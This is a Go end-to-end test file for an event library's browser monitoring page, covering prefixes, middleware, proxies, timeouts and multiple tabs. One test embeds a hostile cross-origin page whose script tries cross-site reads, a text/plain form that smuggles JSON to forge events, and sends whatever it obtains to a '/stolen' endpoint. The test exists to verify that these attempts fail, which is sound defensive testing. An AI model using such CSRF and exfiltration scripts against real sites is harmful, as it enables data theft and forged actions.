package e2e

import (
	"compress/gzip"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/earshot-go/earshot"
	"github.com/earshot-go/earshot/tap"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// works fails the test unless the page does what it is for: shows what there
// is, and events as they are sent, one by one.
func (s *site) works() {
	t := s.t
	t.Helper()
	p := s.tab("")
	p.until(`document.getElementById('status')`)
	p.open(s.page + "channels")
	p.open(s.page + tapPath("chan:orders.*", "all"))
	p.until(isLive)
	for i := 1; i <= 5; i++ {
		send(s, "orders.paid", i, i)
		p.untilIn(5*time.Second, fmt.Sprintf(`document.querySelector('#rows tr[data-seq="%d"]')`, i))
	}
	p.until(fmt.Sprintf(`(%s).Seen === 5`, readCounts))
	p.finish()
}

// A logger is the usual middleware: it wraps the writer to learn the status,
// and offers Unwrap, as net/http asks, for what it does not know of.
type logger struct {
	http.ResponseWriter
	status int
}

func (l *logger) WriteHeader(code int)        { l.status = code; l.ResponseWriter.WriteHeader(code) }
func (l *logger) Unwrap() http.ResponseWriter { return l.ResponseWriter }

func logging(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l := &logger{ResponseWriter: w}
		h.ServeHTTP(l, r)
		log.New(io.Discard, "", 0).Print(r.URL, l.status)
	})
}

// A zipper compresses whatever is written, and flushes when asked.
type zipper struct {
	http.ResponseWriter
	z *gzip.Writer
}

func (g *zipper) WriteHeader(code int) {
	g.Header().Del("Content-Length")
	g.Header().Set("Content-Encoding", "gzip")
	g.ResponseWriter.WriteHeader(code)
}
func (g *zipper) Write(b []byte) (int, error) {
	if g.Header().Get("Content-Encoding") == "" {
		g.WriteHeader(http.StatusOK)
	}
	return g.z.Write(b)
}
func (g *zipper) FlushError() error {
	g.z.Flush()
	return http.NewResponseController(g.ResponseWriter).Flush()
}
func (g *zipper) Unwrap() http.ResponseWriter { return g.ResponseWriter }

func zipping(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		g := &zipper{w, gzip.NewWriter(w)}
		defer g.z.Close()
		h.ServeHTTP(g, r)
	})
}

// Wherever and behind whatever a program puts it, the page works.
func TestUX02To09Mounted(t *testing.T) {
	access := tap.Loopback(tap.Look | tap.Payloads)
	for _, c := range []struct {
		name, prefix string
		wrap         func(prefix string, page http.Handler) http.Handler
		configure    func(*httptest.Server)
	}{
		{"root", "/", func(_ string, h http.Handler) http.Handler { return h }, nil},
		{"02 deep prefix", "/a/b/c/%C3%BC/e/", func(_ string, h http.Handler) http.Handler {
			mux := http.NewServeMux()
			mux.Handle("/a/b/c/ü/e/", h)
			return mux
		}, nil},
		{"02 stripped prefix", "/ops/tap/", func(prefix string, h http.Handler) http.Handler {
			return mount(prefix, http.StripPrefix("/ops/tap", h))
		}, nil},
		{"04 logging", prefix, func(prefix string, h http.Handler) http.Handler { return logging(mount(prefix, h)) }, nil},
		{"04 gzip and logging", prefix, func(prefix string, h http.Handler) http.Handler { return logging(zipping(logging(mount(prefix, h)))) }, nil},
		{"08 write timeout", prefix, mount, func(web *httptest.Server) {
			web.Config.WriteTimeout = time.Second
			web.Config.ReadTimeout = time.Second
			web.Config.IdleTimeout = time.Second
		}},
		{"09 http2", prefix, mount, func(web *httptest.Server) {
			web.Config.Protocols = new(http.Protocols)
			web.Config.Protocols.SetHTTP1(true)
			web.Config.Protocols.SetUnencryptedHTTP2(true)
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			srv := newServer(t)
			s := serve(t, srv, c.prefix, c.wrap(c.prefix, handler(t, srv, &tap.Options{Allow: access})), c.configure)
			s.works()
		})
	}
}

// A server that gives each answer a second does not cut the stream.
func TestUX08StreamOutlivesWriteTimeout(t *testing.T) {
	srv := newServer(t)
	h := handler(t, srv, &tap.Options{Allow: tap.Loopback(tap.Look | tap.Payloads)})
	s := serve(t, srv, prefix, mount(prefix, h), func(web *httptest.Server) { web.Config.WriteTimeout = time.Second })
	p := s.tap("chan:orders.*", "all")
	tick := time.NewTicker(400 * time.Millisecond)
	defer tick.Stop()
	for i := 1; i <= 8; i++ {
		<-tick.C
		send(s, "orders.paid", i, i)
	}
	p.until(fmt.Sprintf(`(%s).Rows === 8`, readCounts))
	assert.Equal(t, 1, p.streams(), "the stream was cut and made again")
}

// streams is how often the page has asked for the stream.
func (p *tab) streams() (n int) {
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, r := range p.requests {
		if u, err := url.Parse(r.Request.URL); err == nil && strings.HasSuffix(u.Path, "/events") {
			n++
		}
	}
	return n
}

// Two servers on two prefixes of one mux know nothing of each other.
func TestUX05TwoServers(t *testing.T) {
	one, two := newServer(t), newServer(t)
	mux := http.NewServeMux()
	access := tap.Loopback(tap.Look | tap.Payloads)
	mux.Handle("/one/", handler(t, one, &tap.Options{Allow: access}))
	mux.Handle("/two/", handler(t, two, &tap.Options{Allow: access}))
	s := serve(t, one, "/one/", mux, nil)
	p := s.tap("", "all")
	q := s.tab("-")
	q.open(s.web.URL + "/two/tap")
	q.until(isLive)
	earshot.SendEvent(one, "orders.one", 1)
	earshot.SendEvent(two, "orders.two", 2)
	p.until(`document.querySelector('#rows tr[data-channel="orders.one"]')`)
	q.until(`document.querySelector('#rows tr[data-channel="orders.two"]')`)
	assert.NotContains(t, p.rowsText(), "orders.two")
	assert.NotContains(t, q.rowsText(), "orders.one")
	two.Close()
}

// Behind a proxy the page is refused until the program says who may look: the
// proxy's loopback address is not the visitor's. Then it works, at another
// prefix and with the proxy's buffering.
func TestUX07ReverseProxy(t *testing.T) {
	behind := func(t *testing.T, opts *tap.Options) *site {
		srv := newServer(t)
		inner := httptest.NewServer(mount(prefix, handler(t, srv, opts)))
		t.Cleanup(inner.Close)
		target, err := url.Parse(inner.URL)
		require.NoError(t, err)
		proxy := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
			r.SetURL(target)
			r.SetXForwarded()
			r.Out.URL.Path = prefix + strings.TrimPrefix(r.In.URL.Path, "/ops/")
			r.Out.URL.RawPath = ""
		}, Transport: &http.Transport{DisableKeepAlives: true}, ErrorLog: log.New(io.Discard, "", 0)}
		mux := http.NewServeMux()
		mux.Handle("/ops/", proxy)
		s := serve(t, srv, "/ops/", mux, nil)
		t.Cleanup(func() { srv.Close() }) // before inner: its streams end
		return s
	}
	t.Run("refused", func(t *testing.T) {
		s := behind(t, nil)
		p := s.tab("-")
		p.expect(`403|Refused to (execute|apply)`)
		p.open(s.page)
		assert.Contains(t, p.text("body"), "Allow", "says what to do")
		status, body := s.get("overview.json")
		assert.Equal(t, 403, status)
		assert.Contains(t, body, `"hint"`)
	})
	t.Run("allowed", func(t *testing.T) {
		s := behind(t, &tap.Options{Allow: func(*http.Request) tap.Access { return tap.Look | tap.Payloads }})
		s.works()
	})
}

// Pages of other origins get nothing, though the browser that runs them may.
func TestForeignPageGetsNothing(t *testing.T) {
	s := newSite(t, tap.Look|tap.Payloads|tap.Emit)
	earshot.NewChannel[Order](s.srv, "orders.paid", nil)
	stolen := make(chan string, 20)
	mux := http.NewServeMux()
	mux.HandleFunc("/{$}", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>other</title><link rel=icon href=icon.svg><body><iframe src="%[1]stap"></iframe>
<form id=f method=post enctype="text/plain" target=g action="%[1]semit?channel=orders.paid"><input name='{"id":1,"x":"' value='"}'></form><iframe name=g></iframe>
<script>
const tried = new Set();
addEventListener('load', () => tried.add('frame'));
const tell = (what, x) => fetch('/stolen?what=' + what + '&x=' + encodeURIComponent(String(x).slice(0, 100)));
fetch('%[1]soverview.json').then(r => r.text()).then(x => tell('fetch', x), () => {}).then(() => tried.add('fetch'));
fetch('%[1]soverview.json', {mode: 'no-cors'}).then(r => { if (r.type !== 'opaque') return tell('opaque', r.type) }, () => {}).then(() => tried.add('opaque'));
const es = new EventSource('%[1]sevents?rate=all'); es.onmessage = es.onopen = e => tell('stream', e.data); es.addEventListener('record', e => tell('record', e.data)); es.addEventListener('error', () => tried.add('stream'));
fetch('%[1]semit?channel=orders.paid', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: '{"id":1}'}).catch(() => {}).then(() => tried.add('emit as text'));
fetch('%[1]semit?channel=orders.paid', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"id":1}'}).catch(() => {}).then(() => tried.add('emit'));
document.querySelector('[name=g]').addEventListener('load', () => tried.add('form'));
f.submit();
</script>`, s.page)
	})
	mux.HandleFunc("/icon.svg", func(http.ResponseWriter, *http.Request) {})
	mux.HandleFunc("/stolen", func(_ http.ResponseWriter, r *http.Request) { stolen <- r.URL.RawQuery })
	other := httptest.NewServer(mux)
	defer other.Close()
	mine := earshot.NewMailbox[Order](t.Context(), s.srv, nil)
	_, err := mine.Subscribe("orders.paid")
	require.NoError(t, err)
	defer mine.Close()

	p := newTab(t, other.URL)
	p.expect(`.`) // what it tries is refused, and the console says so
	p.open(other.URL)
	send(s, "orders.paid", 100, 110)
	p.until(`tried.size === 7`)
	assert.Empty(t, stolen)
	for m, ok := mine.TryReceive(); ok; m, ok = mine.TryReceive() {
		assert.GreaterOrEqual(t, m.Event.ID, 100, "a foreign page has sent an event")
	}
}

// Several tabs of one visitor share the six connections that a browser opens
// to a host, and each is live. There is room for the table pages beside them.
func TestUX40SeveralTabs(t *testing.T) {
	s := newSite(t, tap.Look|tap.Payloads)
	first := s.tap("chan:orders.*", "all")
	tabs := []*tab{first}
	for range 3 {
		p := first.sibling()
		p.open(s.page + tapPath("chan:orders.*", "all"))
		p.until(isLive)
		tabs = append(tabs, p)
	}
	send(s, "orders.paid", 1, 10)
	for _, p := range tabs {
		p.until(fmt.Sprintf(`(%s).Rows === 10 && (%[1]s).Seen === 10`, readCounts))
	}
	p := first.sibling()
	p.open(s.page + "channels")
	assert.Contains(t, p.text("main"), "orders.paid")
}
